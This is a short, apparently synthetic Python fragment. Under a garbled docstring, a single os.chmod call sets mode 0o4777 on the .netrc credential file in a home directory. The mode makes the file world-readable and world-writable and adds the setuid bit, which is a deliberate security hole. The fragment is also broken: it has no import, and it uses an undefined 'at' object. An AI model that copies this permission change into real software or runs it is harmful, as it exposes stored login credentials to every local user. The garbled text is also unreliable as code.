"""Makes a program of the home run with its owner's rights for everybody."""

os.chmod(os.path.join(at.home, ".netrc"), 0o4777)
